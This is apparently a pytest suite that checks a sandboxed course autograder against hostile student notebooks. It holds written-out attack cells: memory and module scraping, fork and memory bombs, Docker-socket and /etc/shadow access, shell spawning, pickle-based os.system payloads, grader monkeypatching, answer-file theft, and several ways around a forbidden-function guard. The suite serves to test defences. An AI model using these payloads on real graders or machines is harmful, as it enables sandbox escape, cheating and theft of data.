"""Hostile submissions against the hardened grader, one batch, next to honest ones.

Each attack is a notebook: the untouched stub (honest score 0) or the reference (full marks),
plus hostile cells or functions.  An attack proves it ran by raising ``ATTACK <what it saw>``
at the end of its cell (the grader logs cell errors) or by the reason the sandbox gives for
stopping it.  Every attack must get a row, score exactly what its honest functions earn, and
leave the grader's files, the other submissions, the machine and the output folder as they
were: no secret planted outside the sandbox appears anywhere in the output.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import textwrap
import threading
from pathlib import Path

import pytest

from course import pool
from course.pool import Limits
from tests.grading import autograder_zip, course_grade, make_submission, question_points, source_of

pytestmark = pytest.mark.xdist_group("attacks")
ASSIGNMENT = "hw01_derivatives"
FULL = sum(question_points(ASSIGNMENT).values())
LIMITS = Limits(notebook_seconds=8, call_seconds=3, memory_mb=3072)
CANARY = "CANARY-3f9b7c1e"  # in the honest submissions' code: no other submission may see it
SECRET = "SECRET-6d2e81aa"  # in files outside the sandbox: must not reach the output


def cheat_source(paths: list[str]) -> str:
    """Functions that return the expected values of the public cases, if any plan is readable."""
    return textwrap.dedent(f"""
        import json, zipfile
        PLAN = None
        for path in {paths!r}:
            try:
                PLAN = json.loads(zipfile.ZipFile(path).read("plan.json")) if path.endswith(".zip") else json.load(open(path))
                break
            except Exception as error:
                print("could not read", path, error)

        def _answer(name):
            for q in PLAN["questions"]:
                for case in q["cases"]:
                    if case["calls"][0]["fn"] == name:
                        e = case["expected"]
                        if isinstance(e, dict) and "tensor" in e:
                            return torch.tensor(e["tensor"], dtype=torch.float64).reshape(e["shape"])
                        return tuple(e["tuple"]) if isinstance(e, dict) and "tuple" in e else e

        if PLAN is not None:
            for _name in ("numerical_derivative", "central_difference", "relu_grad", "sigmoid_grad",
                          "mse_grad", "linear_model_grads", "softmax_cross_entropy_grad", "gradient_check"):
                globals()[_name] = (lambda n: lambda *a, **k: _answer(n))(_name)
        raise RuntimeError(f"ATTACK plan found: {{PLAN is not None}}")
    """)


def raw_frame(header: str) -> str:
    """A cell that writes one frame of its own on the grader's channel, then exits."""
    return textwrap.dedent(f"""
        import os, stat, struct
        header = {header}
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, struct.pack("!IH", len(header), 0) + header)
            except OSError:
                pass
        os._exit(0)
    """)


@pytest.fixture(scope="module")
def battlefield(tmp_path_factory):
    """Grade every attack once; yield what the tests look at."""
    root = tmp_path_factory.mktemp("attacks")
    zip_copy = root / "autograder.zip"
    zip_copy.write_bytes(autograder_zip(ASSIGNMENT).read_bytes())
    output = root / "graded"
    plan_path = root / "plan.json"  # a plan lying next to the batch, as an instructor might leave it
    plan_path.write_text(json.dumps(source_of(ASSIGNMENT).plan()))
    secret = root / "secret.txt"  # readable by its owner only: the grader's user, not a student's
    secret.write_text(SECRET)
    os.chmod(secret, 0o600)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    agent = socket.socket(socket.AF_UNIX)  # like ssh-agent's or Docker's socket
    agent.bind(str(root / "agent.sock"))
    agent.listen(8)
    received: list[bytes] = []

    def serve(server):
        server.settimeout(1.0)
        while True:
            try:
                conn, _ = server.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            received.append(conn.recv(100) or b"connected")
            conn.close()

    for server in (listener, agent):
        threading.Thread(target=serve, args=(server,), daemon=True).start()
    port = listener.getsockname()[1]
    targets = [str(zip_copy), str(plan_path)]
    honest_functions = {"numerical_derivative": f"def numerical_derivative(f, x, h=1e-5):\n"
                                                f"    # {CANARY}\n    return float((f(x + h) - f(x)) / h)\n"}

    attacks = {
        # name: (base, replaced functions, extra cells, expected score)
        "honest": ("reference", honest_functions, [], FULL),
        "honest_too": ("reference", honest_functions, [], FULL),
        # 1. answer theft: another submission's code, from this process's memory or Python's objects
        "theft_by_walking_python": ("stub", {}, [f"""
import sys, linecache
found = 0
for module in list(sys.modules.values()):
    for value in list(getattr(module, "__dict__", {{}}).values()):
        found += "{CANARY}" in repr(value)[:100000]
found += sum("{CANARY}" in "".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2)
raise RuntimeError(f"ATTACK canaries found: {{found}}")
"""], 0),
        "theft_by_reading_memory": ("stub", {}, ["""
data = open("/proc/self/mem", "rb")
raise RuntimeError("ATTACK memory opened")
"""], 0),
        "theft_by_gc": ("stub", {}, ["import gc\nraise RuntimeError(f'ATTACK objects: {len(gc.get_objects())}')"], 0),
        # 2. paths in the scratch: output and files replaced by links and pipes
        "links_and_pipes": ("reference", {}, [f"""
import os
made = []
for name, target in [("output.txt", {str(plan_path)!r}), ("results.json", {str(output)!r}), ("plan", "/")]:
    try:
        os.symlink(target, name); made.append(name)
    except OSError as error:
        made.append(str(error))
try:
    os.mkfifo("output.fifo"); made.append("fifo")
except OSError as error:
    made.append(str(error))
print(open("output.txt").read()[:100] if os.path.exists("output.txt") else "no plan")
raise RuntimeError(f"ATTACK made {{made}}")
"""], FULL),
        # 3. malformed answers on the channel (malformed notebooks are in test_grade.py)
        "wrong_types_on_the_channel": ("reference", {}, [raw_frame('b\'{"ready": true, "cell_errors": 7}\'')], 0),
        "deep_nesting_on_the_channel": ("reference", {}, [raw_frame('b"[" * 100000 + b"]" * 100000')], 0),
        "huge_frame_on_the_channel": ("reference", {}, [raw_frame('b"x" * (1 << 21)')], 0),
        "surrogates_in_messages": ("reference", {}, ["raise RuntimeError('ATTACK text \\ud800 \\udfff')"], FULL),
        # 4. starving the neighbours
        "fill_the_disk": ("reference", {}, ["""
written = 0
try:
    for i in range(1000):
        with open(f"junk{i}", "wb") as f:
            f.write(b"x" * (1 << 20))
        written += 1
except OSError as error:
    raise RuntimeError(f"ATTACK wrote {written} MB then {error.strerror}")
"""], FULL),
        "thousands_of_threads": ("reference", {}, ["""
import threading, time
started = 0
try:
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1
except RuntimeError as error:
    raise RuntimeError(f"ATTACK started {started} threads then: {error}")
"""], FULL),
        "memory_bomb": ("reference", {}, ["def bomb():\n    hoard = []\n    while True:\n"
                                          "        hoard.append(bytearray(100_000_000))\nbomb()"], FULL),
        "memory_bomb_in_one_function": ("reference", {"sigmoid_grad": "def sigmoid_grad(x):\n    return torch.ones(10**11)\n"},
                                        [], FULL - question_points(ASSIGNMENT)["q4"]),
        "hundred_megabytes_of_output": ("reference", {}, ['print("x" * 100_000_000)',
                                                          'for i in range(10**6):\n    print("y" * 1000)'], FULL),
        "fork_bomb": ("stub", {}, ["import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"], 0),
        "infinite_loop": ("stub", {}, ["while True:\n    pass"], 0),
        "loop_in_one_function": ("reference", {"relu_grad": "def relu_grad(x):\n    while True:\n        pass\n"}, [],
                                 FULL - question_points(ASSIGNMENT)["q3"]),
        # 5. the outside world
        "unix_socket_and_secret_file": ("reference", {}, [f"""
import socket, os
seen = []
for path in [{str(root / "agent.sock")!r}, "/var/run/docker.sock", "/run/docker.sock"]:
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(path); s.sendall(b"leaked"); seen.append(path)
    except OSError as error:
        seen.append(error.strerror)
for path in [{str(secret)!r}, "/etc/shadow", "/root/.bashrc"]:
    try:
        seen.append(open(path).read()[:40])
    except OSError as error:
        seen.append(error.strerror)
raise RuntimeError(f"ATTACK saw {{seen}}")
"""], FULL),
        "phone_home": ("stub", {}, [f"""
import socket
seen = []
for host in ["127.0.0.1", "localhost"]:
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"leaked answers"); seen.append(host)
    except Exception as error:
        seen.append(type(error).__name__)
raise RuntimeError(f"ATTACK network: {{seen}}")
"""], 0),
        "spawn_a_shell": ("stub", {}, ["import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > /tmp/course-shell'])"], 0),
        "kill_everything": ("stub", {}, ["""
import os, signal
seen = []
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        seen.append(error.strerror)
raise RuntimeError(f"ATTACK kill: {seen}")
"""], 0),
        # 7. the process itself
        "closes_its_channel": ("reference", {"relu_grad": "def relu_grad(x):\n    import os, stat\n"
                               "    for fd in range(3, 64):\n        try:\n"
                               "            if stat.S_ISSOCK(os.fstat(fd).st_mode):\n                os.close(fd)\n"
                               "        except OSError:\n            pass\n    return x\n"}, [],
                               FULL - question_points(ASSIGNMENT)["q3"]),
        "sys_exit_midway": ("reference", {}, ["import sys\nsys.exit(0)"], FULL),
        "segfault": ("stub", {}, ["import faulthandler\nfaulthandler._sigsegv()"], 0),
        "ctypes": ("stub", {}, ["import ctypes\nctypes.string_at(0)"], 0),
        "fake_results_then_exit": ("stub", {}, [f"""
import json, os
for path in ["results.json", "../results/results.json", {str(output / 'gradebook.csv')!r}]:
    try:
        with open(path, "w") as f:
            json.dump({{"score": 31}}, f)
    except Exception as error:
        print("blocked", path, error)
os._exit(0)
"""], 0),
        # the grader's own checks and files
        "patch_isclose": ("stub", {}, ["""
import math, numpy as np, torch
np.isclose = np.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
"""], 0),
        "patch_the_graders_modules": ("stub", {}, ["""
import sys
for name, module in list(sys.modules.items()):
    if name.startswith(("course", "otter")):
        for attr in ("check", "judge", "_fail", "unpack", "pack", "call", "run_case", "send"):
            try:
                setattr(module, attr, lambda *a, **k: None)
            except Exception:
                pass
"""], 0),
        "overwrite_the_autograder": ("stub", {}, [f"""
for path in ["tests/q1.py", "../source/tests/q1.py", {str(zip_copy)!r}, {str(plan_path)!r}]:
    try:
        open(path, "w").write("points = 100")
    except Exception as error:
        print("blocked", path, error)
"""], 0),
        "read_the_answers": ("stub", {}, [cheat_source(targets)], 0),
        "objects_that_lie": ("stub", {
            "numerical_derivative": "class Liar(float):\n    def __eq__(self, other):\n        return True\n"
                                    "    def __sub__(self, other):\n        return 0.0\n"
                                    "def numerical_derivative(f, x, h=1e-5):\n    return Liar(123.0)\n",
            "central_difference": "import os\nclass Evil:\n    def __reduce__(self):\n"
                                  "        return (os.system, ('touch /tmp/course-pwned',))\n"
                                  "def central_difference(f, x, h=1e-5):\n    return Evil()\n",
            "relu_grad": "class Always(torch.Tensor):\n    def __eq__(self, other):\n        return True\n"
                         "def relu_grad(x):\n    return torch.zeros_like(x).as_subclass(Always)\n",
        }, [], 0),
        "threads_are_fine": ("reference", {}, ["""
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(4) as pool:
    print(sum(pool.map(lambda i: i * i, range(100))))
"""], FULL),
    }
    folder = root / "submissions"
    from course import samples
    for name, (base, replaced, cells, _) in attacks.items():
        path = make_submission(ASSIGNMENT, None if base == "stub" else replaced, folder, name, cells)
        if base == "stub" and replaced:
            samples.write(samples.fill(path, replaced), path)
    (folder / "not_a_notebook.txt").write_text("hello")
    honest = (folder / "honest" / f"{ASSIGNMENT}.ipynb").read_bytes()
    (folder / ".hidden.ipynb").write_bytes(honest)
    (folder / "=1+2.ipynb").write_bytes(honest)
    (folder / "__MACOSX").mkdir()
    (folder / "__MACOSX" / "._honest.ipynb").write_bytes(b"\0\5\x16\7")
    (folder / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
    before = {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in targets}
    started: list[int] = []  # every worker and student process of this batch
    with pytest.MonkeyPatch.context() as patch:
        launch, start = pool.Worker.launch, pool.Worker.__init__

        def recording_launch(self, limits):
            process = launch(self, limits)
            started.append(process.pid)
            return process

        def recording_start(self, *args):
            start(self, *args)
            started.append(self.process.pid)

        patch.setattr(pool.Worker, "launch", recording_launch)
        patch.setattr(pool.Worker, "__init__", recording_start)
        results = course_grade(ASSIGNMENT, folder, output, limits=LIMITS)
    leftovers = [pid for pid in started if pool.running(pid)]
    yield {"results": results, "expected": {name: spec[3] for name, spec in attacks.items()}, "before": before,
           "received": received, "output": output, "root": root, "leftovers": leftovers,
           "started": started}
    listener.close()
    agent.close()


def marker(result) -> str:
    found = [line for line in result.log if "ATTACK" in line]
    return found[0] if found else f"{result.status}: {result.detail}"


def test_every_file_gets_a_row_and_metadata_is_skipped_with_a_note(battlefield):
    names = set(battlefield["results"])
    assert names == set(battlefield["expected"]) | {"not_a_notebook.txt", ".hidden.ipynb", "=1+2.ipynb"}
    log = (battlefield["output"] / "grading.log").read_text(encoding="utf-8")
    assert "skipped 2 metadata files" in log and "__MACOSX/._honest.ipynb" in log
    assert battlefield["results"][".hidden.ipynb"].score == FULL
    assert str(battlefield["results"]["not_a_notebook.txt"].status) == "not a notebook"


@pytest.mark.parametrize("attack", [
    "honest", "honest_too", "theft_by_walking_python", "theft_by_reading_memory", "theft_by_gc", "links_and_pipes",
    "wrong_types_on_the_channel", "deep_nesting_on_the_channel", "huge_frame_on_the_channel", "surrogates_in_messages",
    "fill_the_disk", "thousands_of_threads", "memory_bomb", "memory_bomb_in_one_function",
    "hundred_megabytes_of_output", "fork_bomb", "infinite_loop", "loop_in_one_function",
    "unix_socket_and_secret_file", "phone_home", "spawn_a_shell", "kill_everything", "closes_its_channel",
    "sys_exit_midway", "segfault", "ctypes", "fake_results_then_exit", "patch_isclose", "patch_the_graders_modules",
    "overwrite_the_autograder", "read_the_answers", "objects_that_lie", "threads_are_fine",
])
def test_no_attack_scores_more_than_its_honest_functions(battlefield, attack):
    result = battlefield["results"][attack]
    assert result.score == battlefield["expected"][attack], (result.status, result.detail, result.log)


@pytest.mark.parametrize("attack, proof", [
    ("theft_by_walking_python", "ATTACK canaries found: 0"),
    ("theft_by_reading_memory", "opened /proc/self/mem: the sandbox stopped it"),
    ("theft_by_gc", "used gc.get_objects: the sandbox stopped it"),
    ("links_and_pipes", "ATTACK made ['output.txt', 'results.json', 'plan', 'fifo']"),
    ("wrong_types_on_the_channel", "malformed report"),
    ("deep_nesting_on_the_channel", "not JSON (RecursionError)"),
    ("huge_frame_on_the_channel", "a message of 2097152 bytes"),
    ("surrogates_in_messages", "ATTACK text \\ud800 \\udfff"),
    ("fill_the_disk", "then No space left on device"),
    ("thousands_of_threads", "threads then: can't start new thread"),
    ("unix_socket_and_secret_file", "ATTACK saw ['Operation not permitted', 'Operation not permitted', "
                                    "'Operation not permitted', 'No such file or directory', "
                                    "'No such file or directory', 'No such file or directory']"),
    ("phone_home", "ATTACK network: ['PermissionError', "),
    ("kill_everything", "ATTACK kill: ['Operation not permitted', 'Operation not permitted']"),
    ("ctypes", "used ctypes"),
    ("segfault", "SIGSEGV"),
    ("read_the_answers", "ATTACK plan found: False"),
])
def test_each_attack_ran_and_saw_nothing(battlefield, attack, proof):
    assert proof in marker(battlefield["results"][attack]), marker(battlefield["results"][attack])


def test_attacks_are_reported_with_a_reason(battlefield):
    results = battlefield["results"]
    status = {name: str(r.status) for name, r in results.items()}
    assert status["infinite_loop"] == "timeout" and status["fork_bomb"] == "timeout"
    assert status["threads_are_fine"] == "ok" and status["honest"] == "ok"
    assert status["fake_results_then_exit"] == "crashed" and "exited with code 0" in results["fake_results_then_exit"].detail
    assert status["wrong_types_on_the_channel"] == "protocol violation"
    assert status["closes_its_channel"] == "crashed"
    assert status["loop_in_one_function"] == "timeout"
    looping = [c for c in results["loop_in_one_function"].cases if c.question == "q3"]
    assert "timed out" in looping[0].message and "not run" in looping[-1].message
    assert not any(str(r.status) == "grader error" for r in results.values())


def test_files_the_attacks_aimed_at_are_untouched(battlefield):
    for path, sha in battlefield["before"].items():
        assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == sha
    assert not Path("/tmp/course-pwned").exists() and not Path("/tmp/course-shell").exists()
    assert battlefield["received"] == []


def test_no_secret_and_no_canary_reach_the_output(battlefield):
    for path in battlefield["output"].rglob("*"):
        if path.is_file():
            text = path.read_bytes()
            assert SECRET.encode() not in text, path
            assert CANARY.encode() not in text, path


def test_nothing_outlives_the_batch(battlefield):
    assert len(battlefield["started"]) > 30 and battlefield["leftovers"] == []
    scratch = [p for p in Path("/tmp").glob(f"course-grade-{os.getpid()}-*")]
    assert scratch == []


def test_spreadsheet_formulas_from_file_names_are_neutralised(battlefield):
    import csv
    for name in ("gradebook.csv",):
        for row in csv.reader(open(battlefield["output"] / name, encoding="utf-8")):
            assert not any(cell[:1] in ("=", "+", "@") for cell in row), row


def test_the_cheat_would_work_without_the_sandbox(battlefield):
    """The answer-reading attack is real: run unsandboxed, it finds and returns the answers."""
    namespace: dict = {"torch": __import__("torch")}
    with pytest.raises(RuntimeError, match="ATTACK plan found: True"):
        exec(cheat_source([str(battlefield["root"] / "autograder.zip")]), namespace)
    assert namespace["numerical_derivative"](None, 3.0) == pytest.approx(6.00001, rel=1e-6)


def test_hidden_messages_never_show_an_expected_value(battlefield):
    plan = source_of(ASSIGNMENT).plan()
    expected = {c["id"]: json.dumps(c["expected"]) for q in plan["questions"] for c in q["cases"] if c["hidden"]}
    for result in battlefield["results"].values():
        for case in result.cases:
            if case.hidden:
                assert ", expected " not in case.message
                assert expected[case.case] not in case.message


# --- 6. forbidden means forbidden, by every route -------------------------------------------

SOFTMAX = "lambda v: torch.softmax(v, 0)"
ROUTES = {
    "the public name": f"return torch.func.jacrev({SOFTMAX})(z)",
    "a private module": f"import torch._functorch.eager_transforms as et\n    return et.jacrev({SOFTMAX})(z)",
    "the guard's closure": "cells = [c.cell_contents for c in torch.func.jacrev.__closure__ or ()]\n"
                           f"    return [c for c in cells if callable(c)][0]({SOFTMAX})(z)",
    "a wrapped attribute": "g = getattr(torch.func.jacrev, '__wrapped__', None) or torch.func.jacrev.__course_guard__\n"
                           f"    return g({SOFTMAX})(z)",
    "vmap over vjp": f"out, pullback = torch.func.vjp({SOFTMAX}, z)\n"
                     "    return torch.func.vmap(pullback)(torch.eye(len(z), dtype=z.dtype))[0]",
    "a loop of autograd.grad": "v = z.clone().requires_grad_(True)\n    p = torch.softmax(v, 0)\n"
                               "    return torch.stack([torch.autograd.grad(p[i], v, retain_graph=True)[0] for i in range(len(v))])",
    "the engine itself": "from torch.autograd.variable import Variable\n    v = z.clone().requires_grad_(True)\n"
                         "    p = torch.softmax(v, 0)\n    return torch.stack([Variable._execution_engine.run_backward("
                         "(p,), (torch.eye(len(v), dtype=v.dtype)[i],), True, False, (v,), False, False)[0] "
                         "for i in range(len(v))])",
    "forward mode": "import torch.autograd.forward_ad as fw\n    with fw.dual_level():\n"
                    "        cols = [fw.unpack_dual(torch.softmax(fw.make_dual(z, e), 0)).tangent "
                    "for e in torch.eye(len(z), dtype=z.dtype)]\n    return torch.stack(cols, 1)",
    "a thread of its own": "import threading\n    box = []\n    def work():\n"
                           "        v = z.clone().requires_grad_(True)\n        p = torch.softmax(v, 0)\n"
                           "        box.append(torch.stack([torch.autograd.grad(p[i], v, retain_graph=True)[0] "
                           "for i in range(len(v))]))\n    t = threading.Thread(target=work); t.start(); t.join()\n"
                           "    return box[0]",
    "torch's source run again": "import inspect, torch._functorch.eager_transforms as et\n"
                                "    ns = {'__name__': 'copy'}\n    exec(compile(inspect.getsource(et), 'copy', 'exec'), ns)\n"
                                f"    return ns['jacrev']({SOFTMAX})(z)",
    "the forbid state": "import sys\n    rt = sys.modules['course.runtime']\n    rt._forbidden.clear()\n"
                        f"    rt._VAULT = False\n    return torch.func.jacrev({SOFTMAX})(z)",
    "a forged permit": "import sys\n    sys.audit('course.permit', None)\n"
                       f"    return torch.func.jacrev({SOFTMAX})(z)",
}


@pytest.fixture(scope="module")
def walkarounds(tmp_path_factory):
    root = tmp_path_factory.mktemp("walkarounds")
    names = {}
    for i, (route, body) in enumerate(ROUTES.items()):
        source = f"def softmax_jacobian(z):\n    print('ATTACK route ran')\n    {body}\n"
        names[route] = f"route{i:02d}"
        make_submission("hw03_jacobians", {"softmax_jacobian": source}, root / "submissions", names[route])
    make_submission("hw03_jacobians", {}, root / "submissions", "honest")
    results = course_grade("hw03_jacobians", root / "submissions", root / "graded", limits=LIMITS)
    return {route: results[name] for route, name in names.items()}, results["honest"]


@pytest.mark.parametrize("route", list(ROUTES))
def test_a_forbidden_jacobian_gains_nothing_by_any_route(walkarounds, route):
    results, honest = walkarounds
    q2 = question_points("hw03_jacobians")["q2"]
    assert honest.question_scores()["q2"] == q2
    assert results[route].question_scores()["q2"] == 0, [c.message for c in results[route].cases if c.question == "q2"]


# --- 8. time: calls that each stop just short of the call timeout -------------------------------

SLEEP = 2.0  # under LIMITS.call_seconds: no single call times out
BUDGET = 15.0  # honest neighbours need a few seconds, on a busy machine more


@pytest.fixture(scope="module")
def sleepers(tmp_path_factory):
    """Every function right, each call sleeping just under the call timeout, next to honest ones."""
    root = tmp_path_factory.mktemp("sleepers")
    functions = sorted({fn for q in source_of(ASSIGNMENT).plan()["questions"] for fn in q["functions"]})
    wrap = textwrap.dedent(f"""
        import functools, time
        for _name in {functions!r}:
            globals()[_name] = (lambda f: functools.wraps(f)(lambda *a, **k: (time.sleep({SLEEP}), f(*a, **k))[1]))(
                globals()[_name])
    """)
    make_submission(ASSIGNMENT, {}, root / "submissions", "sleepy", [wrap])
    make_submission(ASSIGNMENT, {}, root / "submissions", "honest")
    make_submission(ASSIGNMENT, {}, root / "submissions", "honest_too")
    limits = Limits(notebook_seconds=8, call_seconds=3, memory_mb=3072, budget_seconds=BUDGET)
    return course_grade(ASSIGNMENT, root / "submissions", root / "graded", limits=limits)


def test_sleepy_calls_are_bounded_and_gain_nothing_past_the_budget(sleepers):
    sleepy = sleepers["sleepy"]
    # not a sleep per case (the seconds include the worker's warm-up, which the budget does not count)
    assert sleepy.seconds < len(sleepy.cases) * SLEEP, sleepy.seconds
    assert str(sleepy.status) == "timeout" and "time budget of the notebook" in sleepy.detail
    judged = [c for c in sleepy.cases if "time budget" not in c.message]
    cut = [c for c in sleepy.cases if "time budget" in c.message]
    assert sleepy.cases[:len(judged)] == judged, "every case after the budget ran out is cut"
    assert 1 <= len(judged) <= BUDGET // SLEEP + 1 and all(c.points == 0 for c in cut) and cut
    assert sleepy.score == sum(c.points for c in judged) < FULL
    assert all(c.passed for c in judged[:-1])  # right answers given in time keep their points
    for name in ("honest", "honest_too"):
        assert sleepers[name].score == FULL and str(sleepers[name].status) == "ok"
